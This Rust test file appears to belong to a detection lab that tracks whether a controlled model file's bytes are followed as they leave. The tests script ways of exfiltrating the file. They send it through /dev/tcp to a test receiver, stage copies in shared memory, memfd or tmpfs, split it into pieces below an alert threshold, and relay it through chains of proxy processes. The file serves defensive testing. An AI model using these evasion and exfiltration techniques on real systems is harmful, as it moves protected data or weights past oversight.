//! One process takes, another puts (TECHNIQUES 1E): carriers. Everything in this file rests on the ledger following bytes
//! through pipes, sockets and files that a holder wrote into; where it does not follow yet, these are the tests that fail.

use std::{
    ffi::OsStr,
    path::{Path, PathBuf},
    process::Command,
};

use tests::lab::{
    KIB,
    outside::UNCONTROLLED,
    process::{Finished, Identity},
};

use super::tooling::descendant_as;
use crate::{
    expect::Expected,
    world::{PATIENCE, Scene, Test, World, size},
};

pub(crate) const TESTS: &[Test] = &[
    ("pipe_to_a_file", pipe_to_a_file),
    ("pipe_through_gzip", pipe_through_gzip),
    ("pipe_of_three", pipe_of_three),
    ("fifo", fifo),
    ("pipe_to_a_peer", pipe_to_a_peer),
    ("unix_socket_to_a_peer", unix_socket_to_a_peer),
    ("staged_on_the_controlled_volume", staged_on_the_controlled_volume),
    ("staged_in_shared_memory", staged_in_shared_memory),
    ("staged_in_a_memfd", staged_in_a_memfd),
    ("copy_file_range_of_a_staged_copy", copy_file_range_of_a_staged_copy),
    ("old_daemons_and_proxies", old_daemons_and_proxies),
    ("pieces_below_the_floor", pieces_below_the_floor),
    ("renamed_and_linked", |w| {
        derived(w, "mv STAGE STAGE.a && ln STAGE.a STAGE.b && rm STAGE.a && cp STAGE.b COPY")
    }),
    ("deleted_while_open", |w| derived(w, "exec 7<STAGE && rm STAGE && cat /proc/self/fd/7 > COPY")),
    ("out_of_memory_again", |w| derived(w, "cp STAGE SHM && rm STAGE && mv SHM COPY")),
    ("compressed_on_the_way", compressed_on_the_way),
    ("truncated_and_filled_again", |w| {
        derived(w, "cp STAGE SHM && : > STAGE && cat SHM > STAGE && cp STAGE COPY; rm SHM")
    }),
    ("inode_used_again", inode_used_again),
];

fn pipe_to_a_file(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let shell =
        scene.shell(&format!("cat {} | dd bs=64K of={} status=none", source.display(), copy.display()));
    let dd = descendant_as(&shell, "dd", &format!("dd bs=64K of={} status=none", copy.display()));
    let expected = [Expected::copy(&scene, &dd, &copy, scene.arrived(source, &copy)).through(1)];
    scene.expect(&expected);
}

fn pipe_through_gzip(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w.gz"));
    let shell = scene.shell(&format!("cat {} | gzip -1 > {}", source.display(), copy.display()));
    let gzip = descendant_as(&shell, "gzip", "gzip -1");
    assert!(size(&copy) < size(source));
    let expected = [Expected::copy(&scene, &gzip, &copy, size(&copy)).through(1)];
    scene.expect(&expected);
}

fn pipe_of_three(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let shell = scene.shell(&format!("cat {} | cat | cat > {}; true", source.display(), copy.display()));
    let cat = descendant_as(&shell, "cat", "cat");
    let expected = [Expected::copy(&scene, &cat, &copy, scene.arrived(source, &copy)).through(2)];
    scene.expect(&expected);
}

/// A named pipe between two processes that share nothing else.
fn fifo(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let pipe = scene.work.join("fifo");
    tests::lab::run(Command::new("mkfifo").arg(&pipe)).expect("a FIFO can be made");
    let shell = scene.shell(&format!(
        "cat {} > {pipe} & cat {pipe} > {}; wait",
        source.display(),
        copy.display(),
        pipe = pipe.display()
    ));
    let cat = descendant_as(&shell, "cat", &format!("cat {}", pipe.display()));
    let expected = [Expected::copy(&scene, &cat, &copy, scene.arrived(source, &copy)).through(1)];
    scene.expect(&expected);
}

/// `tar c | ssh`, without ssh: what sends never opened a file.
fn pipe_to_a_peer(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let script = format!("cat {} | cat > /dev/tcp/{}/{}; true", source.display(), addr.ip(), addr.port());
    World::needs("bash");
    let shell = scene.run(Command::new("bash").args(["-c", &script]));
    let bytes = scene.received(source, receiver);
    let cat = descendant_as(&shell, "cat", "cat");
    let expected = [Expected::egress(&scene, &cat, addr, "tcp", bytes).through(1)];
    scene.expect(&expected);
}

fn unix_socket_to_a_peer(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let mut command = scene.python("unix_relay.py", include_str!("scripts/unix_relay.py"));
    let parent = scene.run(command.arg(source).arg(addr.ip().to_string()).arg(addr.port().to_string()));
    let bytes = scene.received(source, receiver);
    let relay = Identity { pid: None, started: None, ancestry: below(&parent), ..parent };
    let expected = [Expected::egress(&scene, &relay, addr, "tcp", bytes).through(1)];
    scene.expect(&expected);
}

/// First a copy beside the model, which is allowed; then that copy leaves.
fn staged_on_the_controlled_volume(w: &mut World) {
    let scene = w.scene();
    let stage = scene.controlled.join("notes.bin");
    staged(scene, &stage, true);
}

fn staged_in_shared_memory(w: &mut World) {
    let scene = w.scene();
    let stage = Path::new("/dev/shm").join(format!("weighbridge-lab-{}", std::process::id()));
    staged(scene, &stage, false);
    // Best effort: it is the lab's own file, and the next assertion of anything would come too late for it.
    let _ = std::fs::remove_file(&stage);
}

/// `on_the_volume`: the stage lies on the controlled volume, where the staged copy raises WB-0007 itself.
fn staged(scene: Scene<'_>, stage: &Path, on_the_volume: bool) {
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let stager = scene.run(Command::new("cp").arg(source).arg(stage));
    let cp = scene.run(Command::new("cp").arg(stage).arg(&copy));
    let mut expected = vec![Expected::copy(&scene, &cp, &copy, scene.arrived(source, &copy))];
    if on_the_volume {
        expected.push(Expected::unregistered(&scene, &stager, stage, size(stage)));
    }
    scene.expect(&expected);
}

/// Taken into a memfd by one process, sent from it by its child.
fn staged_in_a_memfd(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let mut command = scene.python("memfd.py", include_str!("scripts/memfd.py"));
    let parent = scene.run(command.arg(source).arg(&copy));
    let child = Identity { pid: None, started: None, ancestry: below(&parent), ..parent };
    let expected = [Expected::copy(&scene, &child, &copy, scene.arrived(source, &copy))];
    scene.expect(&expected);
}

/// The kernel copies within one filesystem without a read or a write: there from the controlled volume's own copy.
fn copy_file_range_of_a_staged_copy(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let stage = scene.controlled.join("notes.bin");
    let stager = scene.run(&mut scene.mover("copy_file_range", "-", source, &stage.to_string_lossy()));
    let cp = scene.run(Command::new("cp").arg(&stage).arg(&copy));
    let expected = [
        Expected::copy(&scene, &cp, &copy, scene.arrived(source, &copy)),
        Expected::unregistered(&scene, &stager, &stage, size(&stage)),
    ];
    scene.expect(&expected);
}

/// Four processes, of which only the first ever opens the asset: it writes to a daemon that is older than the agent, which
/// sends it on through a connection that is older too, to a proxy, to another proxy, to the outside.
fn old_daemons_and_proxies(w: &mut World) {
    let mut scene = w.prepare();
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let daemon = scene.work.join("daemon.sock");
    let mut next = format!("tcp:{addr}");
    let mut hops = Vec::new();
    for listen in
        ["tcp:127.0.0.1:0".to_owned(), "tcp:127.0.0.2:0".to_owned(), format!("unix:{}", daemon.display())]
    {
        let mut command = scene.python("hop.py", include_str!("scripts/hop.py"));
        let mut hop = scene.spawn(command.arg(&listen).arg(&next));
        let line = hop.line().unwrap_or_else(|error| panic!("{error:#}"));
        let at = line.strip_prefix("ready ").expect("a hop says where it listens");
        next = match listen.rsplit_once(':') {
            Some((front, "0")) => format!("{front}:{at}"),
            _ => listen,
        };
        hops.push(hop);
    }
    scene.start();
    let source = scene.model.files[0].clone();
    let script = format!(
        "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect('{}'); f=open(sys.argv[1],'rb'); \
         [s.sendall(c) for c in iter(lambda: f.read(65536), b'')]",
        daemon.display()
    );
    scene.run(Command::new(World::python()).args(["-c", &script]).arg(&source));
    let bytes = scene.received(&source, receiver);
    let mut ended = hops.into_iter().map(|hop| {
        hop.finish(PATIENCE).and_then(Finished::success).unwrap_or_else(|error| panic!("{error:#}"))
    });
    let last = ended.next().expect("there are three hops");
    assert_eq!(ended.count(), 2);
    let expected = [Expected::egress(&scene, &last, addr, "tcp", bytes)
        .through(3)
        .passing(&["unix", "process", "peer"])];
    scene.expect(&expected);
}

/// Two hundred files of 60 KiB, each below the propagation floor; a dozen processes read and send them in turns.
fn pieces_below_the_floor(w: &mut World) {
    let mut scene = w.scene();
    let folder = in_memory(&mut scene);
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let mut command = scene.python("pieces.py", include_str!("scripts/pieces.py"));
    let size = (60 * KIB).to_string();
    let to = [addr.ip().to_string(), addr.port().to_string()];
    let parent = scene.run(command.arg(source).arg(size).arg(&folder).args(to));
    let bytes = scene.received(source, receiver);
    let relay = Identity { pid: None, started: None, ancestry: below(&parent), ..parent };
    let expected = [Expected::egress(&scene, &relay, addr, "tcp", bytes)];
    scene.expect(&expected);
}

/// A folder of memory: what lies there is no unregistered copy, and raises nothing by itself.
fn in_memory(scene: &mut Scene<'_>) -> PathBuf {
    let place = scene.work.join("stage");
    let words = ["-t", "tmpfs", "lab"].map(OsStr::new);
    scene.mount(&words, &place).unwrap_or_else(|error| panic!("{error:#}"));
    place
}

/// A copy in memory goes through what `steps` does and leaves by its last command.
fn derived(w: &mut World, steps: &str) {
    let mut scene = w.scene();
    let stage = in_memory(&mut scene).join("notes");
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let shm = format!("/dev/shm/weighbridge-lab-{}-derived", std::process::id());
    scene.run(Command::new("cp").arg(source).arg(&stage));
    let steps = steps
        .replace("STAGE", &stage.to_string_lossy())
        .replace("COPY", &copy.to_string_lossy())
        .replace("SHM", &shm);
    let shell = scene.shell(&format!("{steps}; true"));
    let program = steps.split("&& ").last().and_then(|step| step.split(' ').next()).expect("a last step");
    let cmdline =
        steps.split("&& ").last().map(|step| step.split([';', '<', '>']).next().unwrap_or(step).trim());
    let by = descendant_as(&shell, program, cmdline.expect("a last step"));
    let expected = [Expected::copy(&scene, &by, &copy, scene.arrived(source, &copy))];
    scene.expect(&expected);
}

/// What was compressed to less on the way holds no more than that when it is whole again.
fn compressed_on_the_way(w: &mut World) {
    let mut scene = w.scene();
    let packed = in_memory(&mut scene).join("notes.gz");
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let [from, to, through] = [source, &copy, &packed].map(|path| path.display());
    let shell = scene.shell(&format!("gzip -1 < {from} > {through} && gzip -dc {through} > {to}; true"));
    let gzip = descendant_as(&shell, "gzip", &format!("gzip -dc {through}"));
    assert_eq!(scene.arrived(source, &copy), size(source));
    assert!(size(&packed) < size(source));
    let expected = [Expected::copy(&scene, &gzip, &copy, size(&packed))];
    scene.expect(&expected);
}

/// The inode number of a carrier that is gone is another file's: that one holds nothing.
fn inode_used_again(w: &mut World) {
    let mut scene = w.scene();
    let stage = scene.controlled.join("notes");
    let cp = scene.run(Command::new("cp").arg(&scene.model.files[0]).arg(&stage));
    let first = Expected::unregistered(&scene, &cp, &stage, size(&stage));
    let number = inode(&stage);
    std::fs::remove_file(&stage).expect("the copy can be removed");
    let other = scene.controlled.join("holiday");
    let mut tries = Vec::new();
    // ext4 takes the lowest free one of the folder's group; whoever else makes a file there may come first.
    while inode_of_new(&other) != number {
        assert!(tries.len() < 100, "the inode is not used again");
        let kept = scene.controlled.join(format!("other-{}", tries.len()));
        std::fs::rename(&other, &kept).expect("a file can be renamed");
        tries.push(kept);
    }
    scene.shell(&format!("head -c 20M /dev/urandom > {}", other.display()));
    assert_eq!(inode(&other), number);
    scene.run(Command::new("cp").arg(&other).arg(scene.uncontrolled.join("holiday")));
    scene.mark();
    scene.expect(&[first]);
}

fn inode_of_new(path: &Path) -> u64 {
    std::fs::write(path, b"").expect("a file can be made");
    inode(path)
}

fn inode(path: &Path) -> u64 {
    use std::os::unix::fs::MetadataExt as _;
    std::fs::metadata(path).expect("the file is there").ino()
}

fn below(parent: &Identity) -> Vec<u32> {
    parent.pid.into_iter().chain(parent.ancestry.iter().copied()).collect()
}
